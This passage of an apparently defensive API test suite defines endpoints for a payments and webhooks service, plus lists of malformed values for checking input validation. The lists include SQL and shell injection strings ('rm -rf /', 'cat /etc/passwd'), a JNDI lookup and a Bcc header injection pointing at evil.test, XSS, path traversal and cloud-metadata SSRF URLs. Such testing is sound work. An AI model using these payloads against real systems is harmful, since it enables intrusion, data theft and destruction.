    valid=lambda c: {"amount": 100, "reason": "requested_by_customer"},
    echo=lambda b: dict(b["refund"]),
    optional=True,
)
PAYMENTS = "/v1/payments"
PAYMENT_FILTERS: tuple[tuple[str, str, str], ...] = (
    ("status", "status=succeeded", "ok"),
    ("status-partially-refunded", "status=partially_refunded", "ok"),
    ("status-bogus", "status=bogus", "bad"),
    ("status-uppercase", "status=SUCCEEDED", "bad"),
    ("status-sql", "status=succeeded%27%20OR%20%271%27=%271", "bad"),
    ("status-empty", "status=", "lax"),
    ("status-repeated", "status=failed&status=succeeded", "lax"),
    ("created-from-utc", "created_from=2026-01-01T00:00:00Z", "ok"),
    ("created-from-offset", "created_from=2026-01-01T00:00:00%2B02:00", "ok"),
    ("created-to-fraction", "created_to=2999-12-31T23:59:59.999999Z", "ok"),
    ("created-range", "created_from=2000-01-01T00:00:00Z&created_to=2999-01-01T00:00:00Z", "ok"),
    ("created-range-and-status", "created_from=2000-01-01T00:00:00Z&status=failed&limit=1", "ok"),
    ("created-from-not-a-date", "created_from=not-a-date", "bad"),
    ("created-to-not-a-date", "created_to=yesterday", "bad"),
    ("created-from-naive", "created_from=2026-01-01T00:00:00", "bad"),
    ("created-to-naive", "created_to=2026-01-01T00:00:00", "bad"),
    ("created-from-date-only", "created_from=2026-01-01", "bad"),
    ("created-from-plus-unencoded", "created_from=2026-01-01T00:00:00+02:00", "bad"),
    ("created-from-offset-out-of-range", "created_from=2026-01-01T00:00:00%2B25:00", "bad"),
    ("created-from-month-13", "created_from=2026-13-01T00:00:00Z", "bad"),
    ("created-from-epoch-number", "created_from=1767225600", "lax"),
    ("created-from-huge-year", "created_from=99999-01-01T00:00:00Z", "bad"),
    ("created-from-empty", "created_from=", "lax"),
    ("created-range-equal", "created_from=2026-01-01T00:00:00Z&created_to=2026-01-01T00:00:00Z", "bad"),
    ("created-range-reversed", "created_from=2027-01-01T00:00:00Z&created_to=2026-01-01T00:00:00Z", "bad"),
    ("created-from-10k-chars", "created_from=" + "9" * 10_000, "bad"),
)

ANALYTICS = "/v1/analytics"
# Closed days long past: the valid ranges do not depend on the date the suite runs on.
ROLLUP_IN = Body(
    fields=(Field("from", "rollup-from"), Field("to", "rollup-to")),
    valid=lambda c: {"from": "2020-01-01", "to": "2020-01-31"},
    echo=dict,
)
SUMMARY_QUERIES: tuple[tuple[str, str, str], ...] = (
    ("from", "from=2020-01-01", "ok"),
    ("to", "to=2020-01-31", "ok"),
    ("leap-year-366-days", "from=2020-01-01&to=2020-12-31", "ok"),
    ("one-day", "from=2020-02-29&to=2020-02-29", "ok"),
    ("from-the-calendars-start", "from=0001-01-01", "ok"),
    ("currency", "currency=EUR", "ok"),
    ("currency-lowercase", "currency=jpy", "ok"),
    ("everything", "from=2020-01-01&to=2020-01-31&currency=uSd", "ok"),
    ("uppercase-name", "FROM=2999-01-01", "ok"),  # another (unknown) parameter: ignored
    ("367-days", "from=2020-01-01&to=2021-01-01", "bad"),
    ("from-after-to", "from=2020-01-02&to=2020-01-01", "bad"),
    ("to-in-the-future", "to=2999-01-01", "bad"),
    ("from-in-the-future", "from=2999-01-01", "bad"),
    ("from-the-calendars-end", "from=9999-12-31", "bad"),
    ("to-the-calendars-start", "to=0001-01-01", "bad"),
    ("from-a-word", "from=yesterday", "bad"),
    ("from-empty", "from=", "bad"),
    ("from-month-13", "from=2020-13-01", "bad"),
    ("from-not-a-leap-day", "from=2019-02-29", "bad"),
    ("from-unpadded", "from=2020-1-1", "bad"),
    ("from-a-timestamp", "from=2020-01-01T00:00:00Z", "bad"),
    ("from-basic-format", "from=20200101", "bad"),
    ("from-nul", "from=2020-01-01%00", "bad"),
    ("from-10k-chars", "from=" + "2" * 10_000, "bad"),
    ("to-five-digit-year", "to=10000-01-01", "bad"),
    ("to-sql", "to=2020-01-01%27%20OR%20%271%27=%271", "bad"),
    ("currency-unknown", "currency=XXX", "bad"),
    ("currency-four-letters", "currency=EURO", "bad"),
    ("currency-empty", "currency=", "bad"),
    ("currency-digits", "currency=978", "bad"),
    ("currency-symbol", "currency=%E2%82%AC", "bad"),
    ("currency-trailing-newline", "currency=EUR%0A", "bad"),
    ("currency-padded", "currency=%20EUR", "bad"),
    ("currency-10k-chars", "currency=" + "E" * 10_000, "bad"),
    ("from-repeated", "from=2020-01-01&from=2020-01-02", "lax"),
    ("currency-repeated", "currency=EUR&currency=USD", "lax"),
)

AVATAR = "/v1/users/{user_id:uuid}/avatar"
IMAGE_TYPES = ("image/png", "image/jpeg", "image/webp")
AVATAR_SIZES: tuple[tuple[str, str, str], ...] = (
    ("size-64", "size=64", "ok"),
    ("size-256", "size=256", "ok"),
    ("size-uppercase-name", "SIZE=100", "ok"),  # another (unknown) parameter: ignored
    ("size-100", "size=100", "bad"),
    ("size-zero", "size=0", "bad"),
    ("size-negative", "size=-64", "bad"),
    ("size-512", "size=512", "bad"),
    ("size-word", "size=large", "bad"),
    ("size-empty", "size=", "bad"),
    ("size-float", "size=64.0", "bad"),
    ("size-exp", "size=6.4e1", "bad"),
    ("size-hex", "size=0x40", "bad"),
    ("size-bool", "size=true", "bad"),
    ("size-null", "size=null", "bad"),
    ("size-huge", f"size={2**70}", "bad"),
    ("size-nul", "size=64%00", "bad"),
    ("size-fullwidth", "size=%EF%BC%96%EF%BC%94", "bad"),
    ("size-sql", "size=64%20OR%201=1", "bad"),
    ("size-10k-chars", "size=" + "6" * 10_000, "bad"),
    ("size-padded", "size=%2064", "lax"),
    ("size-leading-zero", "size=064", "lax"),
    ("size-plus", "size=%2B64", "lax"),
    ("size-repeated", "size=64&size=256", "lax"),
    ("size-repeated-bad", "size=64&size=100", "lax"),
)

ENDPOINTS: dict[tuple[str, str], Endpoint] = {
    ("POST", "/v1/signup"): Endpoint(_ok(201), lambda c: "/v1/signup", auth=False, body=SIGNUP),
    ("GET", "/v1/tenant"): Endpoint(_ok(200), lambda c: "/v1/tenant"),
    ("PATCH", "/v1/tenant/config"): Endpoint(_ok(200), lambda c: "/v1/tenant/config", body=TENANT_CONFIG),
    ("GET", "/v1/api-keys"): Endpoint(_ok(200), lambda c: "/v1/api-keys", paged=True),
    ("POST", "/v1/api-keys"): Endpoint(_ok(201), lambda c: "/v1/api-keys", body=API_KEY),
    ("DELETE", "/v1/api-keys/{key_id:uuid}"): Endpoint(
        _ok(204),
        lambda c: f"/v1/api-keys/{c.victim_key}",
        ids="key",
        safe=lambda c: f"/v1/api-keys/{c.missing}",
        safe_ok=_ok(404),
    ),
    ("GET", "/v1/users"): Endpoint(_ok(200), lambda c: "/v1/users", paged=True),
    ("POST", "/v1/users"): Endpoint(_ok(201), lambda c: "/v1/users", body=USER_IN),
    ("GET", "/v1/users/{user_id:uuid}"): Endpoint(_ok(200), lambda c: f"/v1/users/{c.victim_user}", ids="user"),
    ("PATCH", "/v1/users/{user_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"/v1/users/{c.victim_user}", body=USER_PATCH, ids="user"
    ),
    ("DELETE", "/v1/users/{user_id:uuid}"): Endpoint(
        _ok(204),
        lambda c: f"/v1/users/{c.victim_user}",
        ids="user",
        safe=lambda c: f"/v1/users/{c.missing}",
        safe_ok=_ok(404),
    ),
    ("GET", HOOKS): Endpoint(_ok(200), lambda c: HOOKS, paged=True),
    ("POST", HOOKS): Endpoint(_ok(201), lambda c: HOOKS, body=WEBHOOK_IN),
    ("GET", HOOKS + "/{endpoint_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"{HOOKS}/{c.victim_endpoint}", ids="endpoint"
    ),
    ("PATCH", HOOKS + "/{endpoint_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"{HOOKS}/{c.victim_endpoint}", body=WEBHOOK_PATCH, ids="endpoint"
    ),
    ("DELETE", HOOKS + "/{endpoint_id:uuid}"): Endpoint(
        _ok(204),
        lambda c: f"{HOOKS}/{c.victim_endpoint}",
        ids="endpoint",
        safe=lambda c: f"{HOOKS}/{c.missing}",
        safe_ok=_ok(404),
    ),
    # Rotating is harmless to repeat: the well-formed requests really rotate, and the model follows.
    ("POST", HOOKS + "/{endpoint_id:uuid}/rotate-secret"): Endpoint(
        _ok(200), lambda c: f"{HOOKS}/{c.victim_endpoint}/rotate-secret", ids="endpoint"
    ),
    ("GET", HOOKS + "/{endpoint_id:uuid}/deliveries"): Endpoint(
        _ok(200), lambda c: f"{HOOKS}/{c.victim_endpoint}/deliveries", paged=True, ids="endpoint"
    ),
    ("GET", HOOKS + "/{endpoint_id:uuid}/deliveries/{delivery_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"{HOOKS}/{c.victim_endpoint}/deliveries/{c.victim_delivery}", ids="delivery"
    ),
    # A retry starts background work (a new attempt): header-level cases go to a missing delivery.
    ("POST", HOOKS + "/{endpoint_id:uuid}/deliveries/{delivery_id:uuid}/retry"): Endpoint(
        _ok(202),
        lambda c: f"{HOOKS}/{c.victim_endpoint}/deliveries/{c.victim_delivery}/retry",
        ids="delivery",
        safe=lambda c: f"{HOOKS}/{c.victim_endpoint}/deliveries/{c.missing}/retry",
        safe_ok=_ok(404),
    ),
    ("GET", "/v1/webhook-event-types"): Endpoint(_ok(200), lambda c: "/v1/webhook-event-types"),
    ("GET", "/v1/jobs/{job_id:uuid}"): Endpoint(_ok(200), lambda c: f"/v1/jobs/{c.job}", ids="job"),
    ("GET", PAYMENTS): Endpoint(_ok(200), lambda c: PAYMENTS, paged=True, filters=PAYMENT_FILTERS),
    # Creating a payment is what a valid request does: the model follows every 202.
    ("POST", PAYMENTS): Endpoint(_ok(202), lambda c: PAYMENTS, body=PAYMENT_IN, idempotent=True),
    ("GET", PAYMENTS + "/{payment_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"{PAYMENTS}/{c.victim_payment}", ids="payment"
    ),
    # Refunds go to the declined payment: valid bodies are refused with a 409 after validation. Header-level
    # cases go to a missing payment.
    ("POST", PAYMENTS + "/{payment_id:uuid}/refunds"): Endpoint(
        _ok(409),
        lambda c: f"{PAYMENTS}/{c.declined_payment}/refunds",
        body=REFUND_IN,
        ids="payment",
        idempotent=True,
        safe=lambda c: f"{PAYMENTS}/{c.missing}/refunds",
        safe_ok=_ok(404),
    ),
    ("GET", PAYMENTS + "/{payment_id:uuid}/refunds"): Endpoint(
        _ok(200), lambda c: f"{PAYMENTS}/{c.victim_payment}/refunds", paged=True, ids="payment"
    ),
    ("GET", PAYMENTS + "/{payment_id:uuid}/refunds/{refund_id:uuid}"): Endpoint(
        _ok(200), lambda c: f"{PAYMENTS}/{c.victim_payment}/refunds/{c.victim_refund}", ids="refund"
    ),
    ("GET", AVATAR): Endpoint(
        _ok(200),
        lambda c: f"/v1/users/{c.victim_user}/avatar",
        ids="user",
        filters=AVATAR_SIZES,
        conditional=True,
    ),
    # Every valid upload really replaces the victim's avatar: the model follows each 202.
    ("PUT", AVATAR): Endpoint(
        _ok(202), lambda c: f"/v1/users/{c.victim_user}/avatar", raw=RawBody(IMAGE_TYPES, lambda: png()), ids="user"
    ),
    ("GET", ANALYTICS + "/summary"): Endpoint(_ok(200), lambda c: ANALYTICS + "/summary", filters=SUMMARY_QUERIES),
    # Every valid rollup really rolls its days up: the model follows each 202.
    ("POST", ANALYTICS + "/rollups"): Endpoint(_ok(202), lambda c: ANALYTICS + "/rollups", body=ROLLUP_IN),
    ("GET", "/healthz"): Endpoint(_ok(200), lambda c: "/healthz", auth=False),
    ("GET", "/livez"): Endpoint(_ok(200), lambda c: "/livez", auth=False),
    ("GET", "/problems/{slug:str}"): Endpoint(_ok(200), lambda c: "/problems/validation-error", auth=False, ids="slug"),
    ("GET", "/openapi.json"): Endpoint(_ok(200), lambda c: "/openapi.json", auth=False),
    ("GET", "/docs"): Endpoint(_ok(200), lambda c: "/docs", auth=False),
    # Litestar's own schema router (OpenAPIConfig.path="/openapi").
    ("GET", "/openapi"): Endpoint(_ok(200), lambda c: "/openapi", auth=False),
    ("GET", "/openapi/openapi.json"): Endpoint(_ok(200), lambda c: "/openapi/openapi.json", auth=False),
    # Its catch-all: every path below /openapi that no render plugin serves is a 404.
    # Server bug today: for any sub-path not ending in .json/.yaml/.yml it answers a text/html 404.
    ("GET", "/openapi/{path:str}"): Endpoint(_ok(404), lambda c: "/openapi/openapi.yaml", auth=False, ids="schema"),
}


# --------------------------------------------------------------------------------------------------
# Bad values
# --------------------------------------------------------------------------------------------------

MALFORMED_JSON: list[tuple[str, bytes]] = [
    ("truncated-object", b'{"a": '),
    ("open-brace", b"{"),
    ("trailing-comma", b'{"a": 1,}'),
    ("single-quotes", b"{'a': 1}"),
    ("unquoted-key", b"{a: 1}"),
    ("bare-word", b"not json"),
    ("extra-closing", b'{"a": 1}}'),
    ("two-documents", b'{"a": 1} {"a": 2}'),
    ("nan", b'{"a": NaN}'),
    ("infinity", b'{"a": Infinity}'),
    ("comment", b'{"a": 1 /* c */}'),
    ("nul-byte", b"\x00"),
    ("nul-inside", b'{"a":\x00 1}'),
    ("whitespace-only", b"   \n\t "),
    ("utf8-bom", b'\xef\xbb\xbf{"a": 1}'),
    ("utf16-body", '{"a": 1}'.encode("utf-16")),
    ("invalid-utf8-outside-string", b'\xff\xfe{"a": 1}'),
    ("unterminated-string", b'{"a": "abc'),
    ("bad-escape", b'{"a": "\\q"}'),
    ("raw-control-char-in-string", b'{"a": "x\x01y"}'),
    # Server bug today: 500 (RecursionError while decoding).
    ("deeply-nested-array", b"[" * 10_000 + b"]" * 10_000),
    ("deeply-nested-object", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
]

WRONG_TOP_LEVEL: list[tuple[str, bytes]] = [
    ("array", b"[]"),
    ("array-of-object", b"[{}]"),
    ("string", b'"hello"'),
    ("number", b"42"),
    ("huge-number", str(2**70).encode()),
    ("float", b"1.5"),
    ("null", b"null"),
    ("true", b"true"),
]

WRONG_TYPES_FOR_STRING: list[tuple[str, Any]] = [
    ("int", 0),
    ("negative", -1),
    ("huge-int", 2**70),
    ("huge-negative", -(2**70)),
    ("float", 1.5),
    ("big-float", 1e308),
    ("bool", True),
    ("null", None),
    ("array", []),
    ("array-of-string", ["x"]),
    ("object", {}),
    ("nosql-operator", {"$ne": ""}),
]

RATE_REJECTED: list[tuple[str, Any]] = [
    ("zero", 0),
    ("negative", -1),
    ("above-max", 100_001),
    ("int64-overflow", 2**63),
    ("uint64-overflow", 2**64),
    ("huge", 2**70),
    ("huge-negative", -(2**70)),
    ("fraction", 1.5),
    ("bool", True),
    ("array", []),
    ("object", {}),
    ("word", "many"),
    ("empty-string", ""),
]
# Accepted by Litestar's lax decoding today; either answer is fine, but never a 5xx.
RATE_LAX: list[tuple[str, Any]] = [("numeric-string", "100"), ("integral-float", 1000.0), ("exp-string", "1e3")]
RATE_VALID: list[tuple[str, Any]] = [("null-resets", None), ("min", 1), ("max", 100_000)]

# Raw JSON number tokens spliced into a field.
RAW_NUMBERS: list[tuple[str, bytes]] = [
    ("overflowing-float", b"1e400"),
    ("overflowing-negative-float", b"-1e400"),
    ("5000-digit-int", b"9" * 5000),
]

# Rejected for every kind of string field.
BAD_STRINGS: list[tuple[str, str]] = [
    ("empty", ""),
    ("space", " "),
    ("leading-space", " abc"),
    ("trailing-space", "abc "),
    ("tab", "\t"),
    ("nul", "\x00"),
    ("nul-inside", "ab\x00cd"),
    ("newline-inside", "ab\ncd"),
    ("crlf-inside", "ab\r\ncd"),
    ("ansi-escape", "\x1b[31mred"),
    ("del-inside", "ab\x7fcd"),
    ("10k-chars", "x" * 10_000),
]

UNICODE_EDGE: list[tuple[str, str]] = [
    ("rtl-override", "abc\u202edef"),
    ("rtl-override-prefix", "\u202eevil"),
    ("ltr-mark", "a\u200eb"),
    ("zero-width-space", "a\u200bb"),
    ("zero-width-only", "\u200b"),
    ("zwj-sequence", "\U0001f469\u200d\U0001f4bb"),
    ("emoji", "\U0001f980 Ferris"),
    ("astral-math", "\U0001d518\U0001d52b\U0001d526"),
    ("combining-marks", "e\u0301\u0301\u0301"),
    ("bom-prefix", "\ufeffname"),
    ("line-separator", "a\u2028b"),
    ("nbsp-inside", "a\u00a0b"),
    ("nbsp-edge", "\u00a0a"),
    ("replacement-char", "\ufffd"),
    ("noncharacter", "a\uffffb"),
    ("private-use", "\ue000"),
    ("fullwidth", "\uff21\uff22\uff23"),
    ("cjk", "\u682a\u5f0f\u4f1a\u793e"),
    ("arabic", "\u0634\u0631\u0643\u0629"),
    ("cyrillic-homoglyph", "\u0410dmin"),
]

INJECTION: list[tuple[str, str]] = [
    ("sql-drop", "'; DROP TABLE users; --"),
    ("sql-or", "1' OR '1'='1"),
    ("sql-dquote", '" OR "1"="1'),
    ("sql-bobby", "Robert'); DROP TABLE students;--"),
    ("sql-sleep", "'; SELECT pg_sleep(5); --"),
    ("sql-union", "x' UNION SELECT secret_hash FROM api_keys --"),
    ("shell-subst", "$(reboot)"),
    ("shell-backticks", "`id`"),
    ("shell-chain", "a; rm -rf / #"),
    ("shell-pipe", "a | cat /etc/passwd"),
    ("template", "{{7*7}}"),
    ("el", "${7*7}"),
    ("jndi", "${jndi:ldap://evil.test/a}"),
    ("html-script", "<script>alert(1)</script>"),
    ("html-img", "<img src=x onerror=alert(1)>"),
    ("path-traversal", "../../../../etc/passwd"),
    ("windows-traversal", "..\\..\\windows\\win.ini"),
    ("percent-nul", "%00"),
    ("format-string", "%s%s%s%n"),
    ("escaped-nul-literal", "\\x00\\u0000"),
    ("backslash", "\\"),
    ("quote", '"'),
    ("json-in-string", '{"role": "owner"}'),
    ("null-word", "null"),
    ("none-word", "None"),
    ("nan-word", "NaN"),
    ("proto", "__proto__"),
]

# The whole unicode/injection list goes to the first text field of a body and to emails on creation;
# other string fields get this sample (same validation code path; the full list would mostly add runtime).
SAMPLE = {
    "rtl-override",
    "zero-width-only",
    "emoji",
    "bom-prefix",
    "sql-drop",
    "shell-subst",
    "path-traversal",
    "nan-word",
}

BAD_EMAILS: list[tuple[str, str]] = [
    ("no-at", "plainaddress"),
    ("double-at", "a@@example.com"),
    ("no-local", "@example.com"),
    ("no-domain", "a@"),
    ("single-label", "a@localhost"),
    ("hyphen-label-start", "a@-example.com"),
    ("hyphen-label-end", "a@example-.com"),
    ("label-64", "a@" + "b" * 64 + ".com"),
    ("local-65", "a" * 65 + "@example.com"),
    ("total-321", "a@" + ".".join(["b" * 63] * 5)[:316] + ".io"),
    ("space-inside", "a b@example.com"),
    ("nul-in-local", "a\x00b@example.com"),
    ("newline-header-injection", "a@example.com\nBcc: x@evil.test"),
    ("sql-in-domain", "a@example.com'; DROP TABLE users; --"),
    ("shell-in-domain", "a@$(reboot).com"),
    ("unicode-domain", "a@b\u00fccher.de"),
]
# 64 x U+0130 (İ) in the local part and a 320-char total: valid for the schema, but str.lower() turns
# each İ into two code points, so the normalised address no longer fits the 320-char column.
GROWS_WHEN_LOWERED = "\u0130" * 64 + "@" + "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + "." + "d" * 60 + ".io"
assert len(GROWS_WHEN_LOWERED) == 320

BAD_TIMEZONES: list[tuple[str, str]] = [
    ("unknown", "Foo/Bar"),
    ("lowercase", "utc"),
    ("traversal", "../../etc/passwd"),
    ("shell", "UTC; rm -rf /"),
    ("offset-out-of-range", "Etc/GMT+99"),
    ("65-chars", "A" * 65),
]
GOOD_TIMEZONES: list[tuple[str, str]] = [("three-part", "America/Argentina/Buenos_Aires"), ("etc", "Etc/GMT+5")]
BAD_LOCALES: list[tuple[str, str]] = [
    ("one-letter", "e"),
    ("word", "english"),
    ("underscore", "en_GB"),
    ("trailing-dash", "en-"),
    ("leading-dash", "-en"),
    ("double-dash", "en--GB"),
    ("36-chars", "en-" + "-".join(["abcdefgh"] * 4)[:33]),
]
GOOD_LOCALES: list[tuple[str, str]] = [("region", "en-GB"), ("script-region", "zh-Hant-TW"), ("upper", "EN")]

BAD_URLS: list[tuple[str, str]] = [
    ("plain-http", "http://example.com/hooks"),
    ("uppercase-scheme", "HTTPS://example.com/hooks"),
    ("ftp", "ftp://example.com/hooks"),
    ("javascript", "javascript:alert(1)"),
    ("data", "data:text/plain,hello"),
    ("file", "file:///etc/passwd"),
    ("relative", "/hooks/keel"),
    ("scheme-relative", "//example.com/hooks"),
    ("no-host", "https:///hooks"),
    ("credentials", "https://user:pass@example.com/hooks"),
    ("username-only", "https://user@example.com/hooks"),
    ("port-out-of-range", "https://example.com:99999/hooks"),
    ("port-not-a-number", "https://example.com:abc/hooks"),
    ("localhost", "https://localhost/hooks"),
    ("dot-localhost", "https://api.localhost/hooks"),
    ("dot-internal", "https://metadata.google.internal/computeMetadata/v1/"),
    ("loopback", "https://127.0.0.1/hooks"),
    ("unspecified", "https://0.0.0.0/hooks"),
    ("private", "https://10.1.2.3/hooks"),
    ("link-local-metadata", "https://169.254.169.254/latest/meta-data/"),
    ("ipv6-loopback", "https://[::1]/hooks"),
    ("ipv6-unique-local", "https://[fd00::1]/hooks"),
    ("ipv4-mapped", "https://[::ffff:10.0.0.1]/hooks"),
    ("space-inside", "https://exa mple.com/hooks"),
    ("crlf-header-injection", "https://example.com/a\r\nX-Injected: 1"),
    ("2049-chars", "https://example.com/" + "a" * 2029),
    # Server bug today: 500 (urlsplit's ValueError escapes check_url).
    ("unclosed-ipv6", "https://[::1/hooks"),
    ("bad-ipv6", "https://[zz]/hooks"),
]
GOOD_URLS: list[tuple[str, str]] = [
    ("query-and-fragment", "https://example.com/hooks?x=1&y=%20#frag"),
    ("port", "https://example.com:8443/hooks"),
    ("idn", "https://b\u00fccher.example/hooks"),
    ("punycode", "https://xn--bcher-kva.example/hooks"),
    ("public-ip", "https://93.184.216.34/hooks"),
    ("max-length", "https://example.com/" + "a" * 2028),
]
EVENT_TYPES = ["api_key.created", "api_key.revoked", "tenant.updated", "user.created", "user.deleted", "user.updated"]
BAD_EVENT_TYPES: list[tuple[str, Any]] = [
    ("empty-list", []),
    ("unknown", ["user.exploded"]),
    ("second-unknown", ["user.created", "nope"]),
    ("internal-event", ["tenant.created"]),
    ("internal-payment-event", ["refund.created"]),
    ("unknown-payment-event", ["payment.exploded"]),
    ("wildcard", ["*"]),
    ("prefix", ["user"]),
    ("uppercase", ["USER.CREATED"]),
    ("padded", [" user.created"]),
    ("empty-string", [""]),
    ("101-chars", ["x" * 101]),
    ("sql", ["user.created' OR '1'='1"]),
    ("null-item", [None]),
    ("int-item", [1]),
    ("nested-list", [["user.created"]]),
    ("object-item", [{"$ne": ""}]),
    ("51-items", ["user.created"] * 51),
    ("string", "user.created"),
    ("object", {"user.created": True}),
    ("null", None),
]
GOOD_EVENT_TYPES: list[tuple[str, list[str], list[str]]] = [
    ("all", EVENT_TYPES, EVENT_TYPES),
    ("duplicates", ["user.created", "user.created"], ["user.created"]),
    ("unsorted", ["user.deleted", "api_key.created"], ["api_key.created", "user.deleted"]),
    ("50-items", ["user.created"] * 50, ["user.created"]),
    ("payment-events", ["payment.refunded", "payment.succeeded"], ["payment.refunded", "payment.succeeded"]),
]
BOOL_REJECTED: list[tuple[str, Any]] = [
    ("null", None),
    ("word", "yes"),
    ("empty-string", ""),
    ("two", 2),
    ("fraction", 0.5),
    ("array", []),
    ("object", {}),
]
# Accepted by Litestar's lax decoding today; either answer is fine, but never a 5xx.
BOOL_LAX: list[tuple[str, Any]] = [("string-true", "true"), ("string-zero", "0"), ("one", 1), ("zero", 0)]
BOOL_VALID: list[tuple[str, bool]] = [("true", True), ("false", False)]

NOT_A_STRING = [(f"type-{name}", value) for name, value in WRONG_TYPES_FOR_STRING]


@dataclass(frozen=True)
class Choices:
    rejected: list[tuple[str, Any]]  # 422
    lax: list[tuple[str, Any]]  # accepted or 422, never a 5xx
    valid: list[tuple[str, Any, Any]]  # accepted, and stored as the third value


CHOICES: dict[str, Choices] = {
    "amount": Choices(
        rejected=[
            ("zero", 0),
            ("negative", -1),
            ("above-max", 100_000_000),
            ("int64-overflow", 2**63),
            ("uint64-overflow", 2**64),
            ("huge", 2**70),
            ("huge-negative", -(2**70)),
            ("fraction", 12.5),
            ("bool", True),
            ("null", None),
            ("array", [2500]),
            ("object", {"value": 2500}),
            ("word", "lots"),
            ("empty-string", ""),
            ("with-currency", "2500 EUR"),
            # Amounts must be JSON integers as sent: a lenient reading would make "25.00" 25 minor units.
            ("numeric-string", "2500"),
            ("integral-float", 2500.0),
            ("exp-string", "2.5e3"),
            ("decimal-string", "25.00"),
        ],
        lax=[],
        valid=[("min", 1, 1), ("max", 99_999_999, 99_999_999)],
    ),
    "currency": Choices(
        rejected=[
            *NOT_A_STRING,
            ("empty", ""),
            ("two-letters", "EU"),
            ("four-letters", "EURO"),
            ("digits", "978"),
            ("digit-inside", "E1R"),
            ("unknown", "XXX"),
            ("precious-metal", "XAU"),
            ("retired", "DEM"),
            ("leading-space", " EUR"),
            ("trailing-space", "EUR "),
            ("symbol", "\u20ac"),
            ("fullwidth", "\uff25\uff35\uff32"),
            ("cyrillic-homoglyph", "\u0415UR"),
            ("nul", "EU\x00"),
            ("trailing-newline", "EUR\n"),
            ("sql", "EUR'; DROP TABLE payments; --"),
            ("10k-chars", "E" * 10_000),
        ],
        lax=[],
        valid=[
            ("upper", "EUR", "EUR"),
            ("lowercase", "eur", "EUR"),
            ("mixed-case", "uSd", "USD"),
            ("zero-decimal", "JPY", "JPY"),
            ("three-decimal", "KWD", "KWD"),
            ("recent", "ZWG", "ZWG"),
        ],
    ),
    "payment-method": Choices(
        rejected=[
            *NOT_A_STRING,
            ("empty", ""),
            ("two-chars", "pm"),
            ("256-chars", "p" * 256),
            ("space-inside", "pm card visa"),
            ("leading-space", " pm_card_visa"),
            ("dash", "pm-card-visa"),
            ("dot", "pm.card.visa"),
            ("newline-inside", "pm_card\nvisa"),
            ("nul", "pm_card\x00visa"),
            ("unicode", "pm_c\u00e4rd"),
            ("fullwidth", "\uff50\uff4d_card"),
            ("card-number", "4242 4242 4242 4242"),
            ("sql", "pm_card_visa'; DROP TABLE payments; --"),
            ("path-traversal", "../../etc/passwd"),
            ("json-in-string", '{"id": "pm_card_visa"}'),
        ],
        lax=[],
        valid=[
            ("test-token", "pm_card_visa", "pm_card_visa"),
            ("declined-token", "pm_card_chargeDeclined", "pm_card_chargeDeclined"),
            ("legacy-token", "tok_visa", "tok_visa"),
            ("min-length-unknown-token", "abc", "abc"),  # accepted; the charge fails with the provider
            ("max-length", "p" * 255, "p" * 255),
        ],
    ),
    "metadata": Choices(
        rejected=[
            ("string", "order=1"),
            ("array", []),
            ("array-of-pairs", [["order", "1"]]),
            ("number", 1),
            ("bool", True),
            ("null", None),
            ("21-keys", {f"k{i}": "v" for i in range(21)}),
            ("empty-key", {"": "v"}),
            ("41-char-key", {"k" * 41: "v"}),
            ("key-with-space", {"order id": "1"}),
            ("key-unicode", {"\u043a\u043b\u044e\u0447": "1"}),
            ("key-slash", {"a/b": "1"}),
            ("key-nul", {"a\x00b": "1"}),
            ("key-dollar", {"$where": "1"}),
            ("value-int", {"order": 1}),
            ("value-null", {"order": None}),
            ("value-bool", {"order": True}),
            ("value-list", {"order": ["1"]}),
            ("value-object", {"order": {"id": "1"}}),
            ("value-501-chars", {"order": "x" * 501}),
            ("value-leading-space", {"order": " 1"}),
            ("value-newline-inside", {"order": "1\n2"}),
            ("value-nul", {"order": "1\x002"}),
            ("value-rtl-override", {"order": "abc\u202edef"}),
            ("value-zero-width", {"order": "a\u200bb"}),
            ("value-10k-chars", {"order": "x" * 10_000}),
        ],
        lax=[],
        valid=[
            ("empty", {}, {}),
            ("20-keys", {f"k{i}": f"v{i}" for i in range(20)}, {f"k{i}": f"v{i}" for i in range(20)}),
            ("40-char-key", {"k" * 40: "v"}, {"k" * 40: "v"}),
            ("key-punctuation", {"order.id-2_x": "1"}, {"order.id-2_x": "1"}),
            ("empty-value", {"note": ""}, {"note": ""}),
            ("500-char-value", {"note": "x" * 500}, {"note": "x" * 500}),
            ("unicode-value", {"note": "\U0001f980 Ferris \u682a\u5f0f"}, {"note": "\U0001f980 Ferris \u682a\u5f0f"}),
            ("sql-value", {"q": "'; DROP TABLE payments; --"}, {"q": "'; DROP TABLE payments; --"}),
            ("json-looking-value", {"raw": '{"role": "owner"}'}, {"raw": '{"role": "owner"}'}),
        ],
    ),
    "refund-reason": Choices(
        rejected=[
            *NOT_A_STRING,
            ("empty", ""),
            ("unknown", "changed_my_mind"),
            ("uppercase", "DUPLICATE"),
            ("padded", " duplicate"),
            ("spaces", "requested by customer"),
        ],
        lax=[],
        valid=[(r, r, r) for r in ("requested_by_customer", "duplicate", "fraudulent")],
    ),
}

# Dates that are no date, whichever of a rollup's two they stand for.
NOT_A_DATE: list[tuple[str, Any]] = [
    *NOT_A_STRING,
    ("empty", ""),
    ("word", "yesterday"),
    ("month-13", "2020-13-01"),
    ("february-30", "2020-02-30"),
    ("day-zero", "2020-01-00"),
    ("year-zero", "0000-01-01"),
    ("five-digit-year", "10000-01-01"),
    ("unpadded", "2020-1-1"),
    ("timestamp", "2020-01-01T00:00:00Z"),
    ("timestamp-with-offset", "2020-01-01T00:00:00+02:00"),
    ("basic-format", "20200101"),
    ("slashes", "2020/01/01"),
    ("day-first", "01-01-2020"),
    ("week-date", "2020-W01-3"),
    ("ordinal-date", "2020-001"),
    ("leading-space", " 2020-01-01"),
    ("trailing-newline", "2020-01-01\n"),
    ("nul", "2020-01-01\x00"),
    ("fullwidth-digits", "\uff12\uff10\uff12\uff10-01-01"),
    ("sql", "2020-01-01'; DROP TABLE analytics_daily_figures; --"),
    ("10k-chars", "2" * 10_000),
]
CHOICES["rollup-from"] = Choices(  # `to` is 2020-01-31
    rejected=[
        *NOT_A_DATE,
        ("after-to", "2020-02-01"),
        ("93-days", "2019-10-31"),
        ("in-the-future", "2999-01-01"),
